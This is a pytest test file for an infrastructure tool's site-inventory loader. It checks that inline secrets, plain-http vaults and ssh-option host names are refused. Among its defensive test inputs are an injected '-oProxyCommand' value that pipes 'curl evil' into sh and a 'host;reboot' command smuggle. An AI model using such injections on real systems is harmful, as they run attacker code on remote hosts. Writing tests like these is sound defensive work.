"""The site target: the inventory model, its refusals, and how a site reaches hosts and vaults.

Adversaries tried here:
- an inventory (or whoever edits it) that writes credentials inline, in a key, a URL or a value: refused
  before anything is read, naming the key path;
- an inventory that points a vault at plain http, at a URL with a path or a query, or leaves out the CA;
- a host name that is an ssh option (`-oProxyCommand=…`), or a jump host whose key is not pinned;
- a host nation that serves another key: outside the lab only the stack config's key is trusted, and a site
  inventory cannot borrow a lab's recorded key unless it is that lab's own (lab_id, same stack, on this machine);
- credentials files readable by others.
"""

from __future__ import annotations

import ast
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from embassy import choosetarget, model, sites, targets, vaultaccess
from embassy.errors import CredentialsUnavailable, InventoryInvalid, ManifestKeyMissing, OptionInvalid, RootRequired
from embassy.lab import lifecycle, site_inventory
from embassy.lab.state import LAB_ROOT_ENV
from embassy.replication import verify

from .incli import embassy

ROOT = Path(__file__).resolve().parents[2]
EXAMPLE = ROOT / "examples" / "sites" / "federation.yaml"
LAB_ID = 87


def pem() -> str:
    return Ed25519PrivateKey.generate().public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo).decode()


@pytest.fixture
def production() -> model.Deployment:
    return model.load_stack("production", ROOT)


@pytest.fixture
def rehearsal() -> model.Deployment:
    return model.load_stack("rehearsal", ROOT)


def example() -> dict[str, Any]:
    doc: dict[str, Any] = yaml.safe_load(EXAMPLE.read_text())
    return doc


def write(tmp_path: Path, doc: dict[str, Any]) -> Path:
    path = tmp_path / "inventory.yaml"
    path.write_text(yaml.safe_dump(doc))
    return path


def refused(tmp_path: Path, doc: dict[str, Any], dep: model.Deployment) -> InventoryInvalid:
    with pytest.raises(InventoryInvalid) as exc:
        sites.load(write(tmp_path, doc), dep)
    assert exc.value.code == 2 and exc.value.hint
    return exc.value


# --------------------------------------------------------------------------- the example and the model


def test_the_documented_example_is_a_valid_two_site_federation(production: model.Deployment) -> None:
    inv = sites.load(EXAMPLE, production)
    assert set(inv.embassies) == {"de-sovereign", "se"} and inv.lab_id is None and inv.netns is None
    de = inv.vault_access("de-sovereign")
    assert de.addressing == "path" and de.ca_file == str(EXAMPLE.parent / "ca" / "de-sovereign-dc-ca.pem")
    assert de.identities["reader"].file == "/etc/embassy/de-sovereign/reader.json"
    assert de.identities["agent"].env == "EMBASSY_DE_AGENT" and de.netns is None
    se = inv.vault_access("se")
    assert se.addressing == "virtual" and se.ca_file == vaultaccess.SYSTEM_CA and set(se.identities) == {"reader", "custody"}


SECRETS_INLINE: dict[str, Any] = {
    "secret key under credentials": lambda d: d["embassies"]["se"]["credentials"].update(
        reader={"access_key_id": "x", "secret_access_key": "y"}),
    "a password anywhere": lambda d: d["embassies"]["se"]["hosts"][0].update(password="hunter2"),
    "an access key id as a value": lambda d: d["embassies"]["se"]["vault"].update(region="AKIAIOSFODNN7EXAMPLE"),
    "an access key id as an env prefix": lambda d: d["embassies"]["se"]["credentials"].update(
        reader={"env": "AKIAIOSFODNN7EXAMPLE"}),
    "a private key pasted in": lambda d: d["embassies"]["se"]["hosts"][0].update(
        identity_file="-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----"),
    "a session token": lambda d: d.update(aws_session_token="FwoGZXIvYXdzE"),
}


@pytest.mark.parametrize("case", sorted(SECRETS_INLINE))
def test_a_secret_written_into_the_inventory_is_refused_naming_where(tmp_path: Path, production: model.Deployment,
                                                                    case: str) -> None:
    doc = example()
    SECRETS_INLINE[case](doc)
    err = refused(tmp_path, doc, production)
    assert "secret is written into the inventory" in err.message and "rotate" in err.hint
    assert "hunter2" not in err.render() and "FwoGZXIvYXdzE" not in err.render()  # the secret is not echoed


BAD_VAULTS: dict[str, tuple[dict[str, Any], str]] = {
    "plain http": ({"endpoint": "http://s3.dc.example.se"}, "not an https URL"),
    "credentials in the URL": ({"endpoint": "https://reader:pw@s3.dc.example.se"}, "credentials in its URL"),
    "a path": ({"endpoint": "https://s3.dc.example.se/ee-production-vault"}, "not https://<host>[:port]"),
    "a query": ({"endpoint": "https://s3.dc.example.se/?x-id=1"}, "not https://<host>[:port]"),
    "no CA": ({"ca_file": None}, "ca_file"),
    "no bucket": ({"bucket": "Not_A_Bucket"}, "bucket"),
    "another addressing": ({"addressing": "dualstack"}, "addressing"),
}


@pytest.mark.parametrize("case", sorted(BAD_VAULTS))
def test_a_vault_reached_otherwise_than_over_verified_tls_is_refused(tmp_path: Path, production: model.Deployment,
                                                                     case: str) -> None:
    change, words = BAD_VAULTS[case]
    doc = example()
    vault = doc["embassies"]["se"]["vault"]
    vault.update(change)
    if change.get("ca_file", "") is None:
        del vault["ca_file"]
    err = refused(tmp_path, doc, production)
    assert words in err.message and "embassies.se.vault" in err.message


BAD_HOSTS: dict[str, Any] = {
    "an ssh option as address": lambda h: h.update(address="-oProxyCommand=sh -c 'curl evil|sh'"),
    "a shell word as address": lambda h: h.update(address="host;reboot"),
    "an ssh option as jump": lambda h: h.update(jump={"address": "-oProxyCommand=x", "user": "a"}),
    "no known_hosts": lambda h: h.pop("known_hosts"),
    "a port out of range": lambda h: h.update(port=70000),
    "a user with spaces": lambda h: h.update(user="root -oX"),
    "an unknown key": lambda h: h.update(adress="10.0.0.1"),
}


@pytest.mark.parametrize("case", sorted(BAD_HOSTS))
def test_a_host_that_could_carry_an_ssh_option_or_skip_host_keys_is_refused(tmp_path: Path,
                                                                           production: model.Deployment, case: str) -> None:
    doc = example()
    BAD_HOSTS[case](doc["embassies"]["se"]["hosts"][0])
    assert "embassies.se.hosts.0" in refused(tmp_path, doc, production).message


def test_an_identity_names_exactly_one_source(tmp_path: Path, production: model.Deployment) -> None:
    for identity in ({"file": "/x.json", "env": "X"}, {}):
        doc = example()
        doc["embassies"]["se"]["credentials"]["reader"] = identity
        assert "exactly one" in refused(tmp_path, doc, production).message


def test_the_inventory_is_bound_to_its_stack_and_its_embassies(tmp_path: Path, production: model.Deployment,
                                                               rehearsal: model.Deployment) -> None:
    assert "not 'rehearsal'" in refused(tmp_path, example(), rehearsal).message
    doc = example()
    doc["embassies"]["xx"] = doc["embassies"]["se"]
    assert "declares no such embassy" in refused(tmp_path, doc, production).message
    doc = example()
    doc["version"] = 2
    assert "version" in refused(tmp_path, doc, production).message


def test_duplicate_keys_binary_and_missing_files_are_refused(tmp_path: Path, production: model.Deployment) -> None:
    text = EXAMPLE.read_text().replace("      bucket: ee-production-vault\n", "      bucket: ee-production-vault\n"
                                       "      bucket: attacker-bucket\n", 1)
    (tmp_path / "dup.yaml").write_text(text)
    with pytest.raises(InventoryInvalid, match="duplicate key 'bucket'"):
        sites.load(tmp_path / "dup.yaml", production)
    (tmp_path / "bin.yaml").write_bytes(b"\xff\xfe\x00")
    with pytest.raises(InventoryInvalid, match="not UTF-8"):
        sites.load(tmp_path / "bin.yaml", production)
    with pytest.raises(InventoryInvalid, match="cannot read"):
        sites.load(tmp_path / "none.yaml", production)


# --------------------------------------------------------------------------- credentials


def test_credentials_come_from_a_private_file_or_the_environment_never_the_spec(tmp_path: Path) -> None:
    creds = tmp_path / "reader.json"
    creds.write_text(json.dumps({"access_key_id": "AK", "secret_access_key": "very-secret"}))
    creds.chmod(0o644)
    source = vaultaccess.CredentialSource(file=str(creds))
    access = vaultaccess.VaultAccess("se", "https://s3.example", "b", "system", identities={"reader": source})
    with pytest.raises(CredentialsUnavailable, match="readable by others") as exc:
        access.client_spec("reader")
    assert "chmod 600" in exc.value.hint
    creds.chmod(0o600)
    spec = access.client_spec("reader")
    assert "very-secret" not in json.dumps(spec) and spec["credentials"] == {"file": str(creds)}
    env_source = vaultaccess.CredentialSource(env="EMB_SE_READER")
    with pytest.raises(CredentialsUnavailable, match="EMB_SE_READER_ACCESS_KEY_ID"):
        env_source.check("reader", {})
    got = vaultaccess.read(env_source.as_spec(), "reader", {"EMB_SE_READER_ACCESS_KEY_ID": "AK",
                                                            "EMB_SE_READER_SECRET_ACCESS_KEY": "s3cr3t"})
    assert got == {"access_key_id": "AK", "secret_access_key": "s3cr3t"}
    with pytest.raises(CredentialsUnavailable, match="no 'custody' identity"):
        access.client_spec("custody")


def test_the_system_ca_is_the_os_store_not_the_environments_bundle(tmp_path: Path,
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    creds = tmp_path / "r.json"
    creds.write_text(json.dumps({"access_key_id": "AK", "secret_access_key": "S"}))
    creds.chmod(0o600)
    monkeypatch.setenv("AWS_CA_BUNDLE", str(tmp_path / "attacker-ca.pem"))
    spec = {"endpoint": "https://s3.example", "bucket": "b", "ca_file": "system", "addressing": "virtual",
            "credentials": {"file": str(creds)}}
    s3 = vaultaccess.s3_client(spec)
    verify_arg = s3._endpoint.http_session._verify
    assert verify_arg != str(tmp_path / "attacker-ca.pem") and Path(verify_arg).is_file()
    assert s3.meta.config.s3["addressing_style"] == "virtual"
    with pytest.raises(CredentialsUnavailable, match="no CA"):
        vaultaccess.s3_client({**spec, "ca_file": ""})


# --------------------------------------------------------------------------- the site target


def test_site_ssh_pins_host_keys_ends_options_and_checks_the_jump_host_too(production: model.Deployment) -> None:
    target = targets.SiteTarget(production, sites.load(EXAMPLE, production), EXAMPLE)
    argv = target.host_argv("de-sovereign", "uptime")
    assert argv[0] == "ssh" and argv[-3:] == ["--", "10.60.4.21", "uptime"]
    opts = " ".join(argv)
    assert "StrictHostKeyChecking=yes" in opts and "GlobalKnownHostsFile=/dev/null" in opts and "BatchMode=yes" in opts
    assert f"UserKnownHostsFile={EXAMPLE.parent / 'known_hosts' / 'de-sovereign'}" in opts and "-F none" in opts
    proxy = next(a for a in argv if a.startswith("ProxyCommand="))
    assert "StrictHostKeyChecking=yes" in proxy and "-- bastion.embassy-ee.dc.example.de" in proxy
    assert "-l ee-operator" in proxy and "-W %h:%p" in proxy
    assert [h.name for h in target.embassy_hosts("se")] == ["enclave-se"]
    with pytest.raises(Exception, match="no embassy 'ca'"):
        target.vault("ca")  # declared by the stack, not described by the inventory


def test_a_namespace_in_the_inventory_wraps_clients_and_needs_root(production: model.Deployment, tmp_path: Path,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    doc = example()
    doc["netns"] = "emb87-ctl"
    target = targets.SiteTarget(production, sites.load(write(tmp_path, doc), production))
    monkeypatch.setattr(os, "geteuid", lambda: 0)
    assert target.host_argv("se", "true")[:5] == ["ip", "netns", "exec", "emb87-ctl", "ssh"]
    assert target.vault("se").client_argv(["python3"]) == ["ip", "netns", "exec", "emb87-ctl", "python3"]
    monkeypatch.setattr(os, "geteuid", lambda: 1000)
    with pytest.raises(RootRequired):
        target.host_argv("se", "true")


def test_outside_the_lab_only_the_stack_configs_key_is_trusted(production: model.Deployment, tmp_path: Path,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    """A site without data-embassy:manifest_public_key has no anchor, even with a lab's key on this machine."""
    monkeypatch.setenv(LAB_ROOT_ENV, str(tmp_path / "labs"))
    inv = sites.load(EXAMPLE, production)
    lab = lifecycle.plan(production, LAB_ID)
    Path(lab.dir).mkdir(parents=True)
    lab.save()
    (Path(lab.dir) / targets.MANIFEST_KEY_FILE).write_text(pem())
    with pytest.raises(ManifestKeyMissing) as exc:
        targets.SiteTarget(production, inv).manifest_public_key()
    assert exc.value.code == 2 and "data-embassy:manifest_public_key" in exc.value.hint
    with pytest.raises(ManifestKeyMissing):
        verify.public_key_pem(production, targets.SiteTarget(production, inv))
    configured = pem()
    with_key = production.model_copy(update={"manifest_public_key": configured})
    assert targets.SiteTarget(with_key, inv).manifest_public_key() == configured
    # The lab's own inventory (lab_id, same stack) is that lab: its recorded key; the configured one still wins.
    own = inv.model_copy(update={"lab_id": LAB_ID})
    recorded = (Path(lab.dir) / targets.MANIFEST_KEY_FILE).read_text()
    assert targets.SiteTarget(production, own).manifest_public_key() == recorded
    assert targets.SiteTarget(with_key, own).manifest_public_key() == configured
    # A lab of another stack at that id lends nothing.
    other = lab.model_copy(update={"stack": "rehearsal"})
    other.save()
    with pytest.raises(ManifestKeyMissing):
        targets.SiteTarget(production, own).manifest_public_key()


def test_the_labs_own_inventory_describes_it_through_its_namespace_without_a_secret(
        rehearsal: model.Deployment, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(LAB_ROOT_ENV, str(tmp_path / "labs"))
    lab = lifecycle.plan(rehearsal, LAB_ID)
    Path(lab.dir).mkdir(parents=True)
    for v in lab.vaults:
        Path(v.reader_credentials).parent.mkdir(parents=True, exist_ok=True)
        Path(v.reader_credentials).write_text(json.dumps({"access_key_id": "AK", "secret_access_key": "lab-secret"}))
        Path(v.reader_credentials).chmod(0o600)
    path = site_inventory.write(lab)
    assert "lab-secret" not in path.read_text()
    inv = sites.load(path, rehearsal)
    assert inv.lab_id == LAB_ID and inv.netns == lab.controller_netns
    assert set(inv.embassies) == {e.name for e in rehearsal.embassies} and inv.home is not None
    site, lab_target = targets.SiteTarget(rehearsal, inv, path), targets.LabTarget(rehearsal, lab)
    monkeypatch.setattr(os, "geteuid", lambda: 0)
    for e in rehearsal.embassies:
        assert site.vault(e.name).client_spec("reader") == lab_target.vault(e.name).client_spec("reader")
        assert site.vault(e.name).client_argv(["x"]) == lab_target.vault(e.name).client_argv(["x"])
        argv = site.host_argv(e.name, "true")
        assert argv[:4] == lab.in_controller([])[:4] and argv[-2] == lab.host(e.name).address
    assert site.controller_folder == lab_target.controller_folder  # one controller, one set of high-water marks


# --------------------------------------------------------------------------- the data plane's imports and the CLI


# The data plane reaches hosts and vaults only through a Target: every module under replication/ and custody/,
# the restore modules and the target-neutral helpers. Only the lab's lifecycle and the drill's incident may
# import embassy.lab (and targets.py, which builds the lab target from it).
DATA_PLANE = sorted({*(str(p.relative_to(ROOT / "src" / "embassy")) for folder in ("replication", "custody")
                       for p in (ROOT / "src" / "embassy" / folder).rglob("*.py")),
                     "drill/restore.py", "assurance/restoretest.py", "assurance/status.py", "vaultaccess.py",
                     "sites.py", "hostroles.py"})


def lab_imports(source: str, module: str) -> list[str]:
    """Every import of embassy.lab anywhere in `source` (module `module`, dotted): top level, inside a function or a
    TYPE_CHECKING block, relative (`from ..lab import x`), `from embassy import lab`, or importlib/__import__ of a
    literal name."""
    package = module.rsplit(".", 1)[0]
    found = []
    for node in ast.walk(ast.parse(source)):
        names: list[str] = []
        if isinstance(node, ast.Import):
            names = [a.name for a in node.names]
        elif isinstance(node, ast.ImportFrom):
            base = node.module or ""
            if node.level:  # relative: resolved against the module's own package
                parts = package.split(".")
                base = ".".join(parts[:len(parts) - node.level + 1] + ([node.module] if node.module else []))
            names = [base] + [f"{base}.{a.name}" for a in node.names]
        elif isinstance(node, ast.Call) and node.args and isinstance(node.args[0], ast.Constant) and \
                isinstance(node.args[0].value, str) and ((isinstance(node.func, ast.Attribute) and
                                                          node.func.attr == "import_module") or
                                                         (isinstance(node.func, ast.Name) and
                                                          node.func.id in ("__import__", "import_module"))):
            names = [node.args[0].value]
        found += [f"line {node.lineno}: {n}" for n in names if n == "embassy.lab" or n.startswith("embassy.lab.")]
    return found


@pytest.mark.parametrize("module", DATA_PLANE)
def test_the_generic_data_plane_does_not_import_the_lab(module: str) -> None:
    path = ROOT / "src" / "embassy" / module
    found = lab_imports(path.read_text(), "embassy." + module.removesuffix(".py").replace("/", "."))
    assert not found, f"{module} imports the lab: {found} (reach hosts and vaults through a Target)"


@pytest.mark.parametrize("source", [
    "from embassy.lab.state import LabState\n",
    "import embassy.lab.system as s\n",
    "from embassy import lab\n",
    "from ..lab import state\n",
    "from .. import lab\n",
    "def f():\n    from embassy.lab.state import lab_dir\n    return lab_dir()\n",
    "from typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    from embassy.lab.state import LabState\n",
    "import importlib\ndef f():\n    return importlib.import_module('embassy.lab.state')\n",
    "def f():\n    return __import__('embassy.lab')\n",
])
def test_the_import_guard_finds_every_way_in(source: str) -> None:
    """The adversary: a change that slips the lab back in where the guard does not look (a lazy import)."""
    assert lab_imports(source, "embassy.replication.x")
    assert not lab_imports("from embassy.labels import x\nfrom . import lag\n", "embassy.replication.x")


def test_the_data_plane_brings_no_lab_module_in_when_imported() -> None:
    """Transitively too: importing every data-plane module (in a fresh interpreter) loads nothing of embassy.lab."""
    code = ("import importlib, sys\n"
            f"for m in {[('embassy.' + m.removesuffix('.py').replace('/', '.')) for m in DATA_PLANE]!r}:\n"
            "    importlib.import_module(m)\n"
            "    lab = sorted(n for n in sys.modules if n == 'embassy.lab' or n.startswith('embassy.lab.'))\n"
            "    if lab:\n"
            "        print(m, lab)\n"
            "        break\n")
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120, cwd=ROOT)
    assert done.returncode == 0, done.stderr
    assert done.stdout == "", f"importing this brought the lab in: {done.stdout}"


def cli(*args: str, cwd: Path = ROOT) -> subprocess.CompletedProcess[str]:
    return embassy(*args, cwd=cwd)


@pytest.mark.parametrize("command", ["verify", "restore"])
def test_target_options_are_checked_before_anything_is_reached(command: str, tmp_path: Path) -> None:
    base = [command, "--stack", "production", "--embassy", "se"]
    # Both take --target aws (with --outputs): each option belongs to its own target.
    by_command = ((["--target", "aws", "--inventory", str(EXAMPLE)], "for --target site"),
                  (["--target", "site", "--outputs", str(EXAMPLE)], "for --target aws"),
                  (["--target", "cloud"], "not 'cloud'"))
    for extra, words in ((["--target", "site"], "needs --inventory"), *by_command,
                         (["--target", "lab", "--inventory", str(EXAMPLE)], "for --target site")):
        done = cli(*base, *extra)
        assert done.returncode == 2 and words in done.stderr and "HINT:" in done.stderr, done.stderr
    bad = example()
    bad["embassies"]["se"]["vault"]["endpoint"] = "http://s3.dc.example.se"
    done = cli(*base, "--target", "site", "--inventory", str(write(tmp_path, bad)))
    assert done.returncode == 2 and "[140]" in done.stderr and "HINT:" in done.stderr
    # A valid inventory, but no manifest key in the stack config: refused before any vault is read.
    done = cli(*base, "--target", "site", "--inventory", str(EXAMPLE))
    assert done.returncode == 2 and "[142]" in done.stderr and "only trust anchor" in done.stderr, done.stderr


def test_an_unknown_target_kind_is_refused() -> None:
    with pytest.raises(OptionInvalid):
        choosetarget.target_for("site", model.load_stack("production", ROOT))


def test_an_embassy_the_inventory_leaves_out_is_not_comparable_never_a_crash(production: model.Deployment,
                                                                              tmp_path: Path) -> None:
    """A site inventory may describe some embassies only: the others are recorded as not comparable for freshness."""
    doc = example()
    del doc["embassies"]["de-sovereign"]
    target = targets.SiteTarget(production, sites.load(write(tmp_path, doc), production))
    fresh = verify.freshness.Freshness(accepted_unanchored=False)
    said: list[str] = []
    verify.gather_anchors(production, target, "se", None, fresh, said.append)
    assert {n["embassy"] for n in fresh.not_comparable} == {"de-sovereign", "ca", "jp"} and not fresh.anchors
    assert all("not reachable through target site" in n["reason"] for n in fresh.not_comparable)


def test_lab_status_names_the_labs_site_inventory(rehearsal: model.Deployment, tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(LAB_ROOT_ENV, str(tmp_path / "labs"))
    lab = lifecycle.plan(rehearsal, LAB_ID)
    Path(lab.dir).mkdir(parents=True)
    lab.save()
    status = lifecycle.status(LAB_ID, rehearsal.stack)
    assert status["site_inventory"] == str(Path(lab.dir) / site_inventory.FILE)
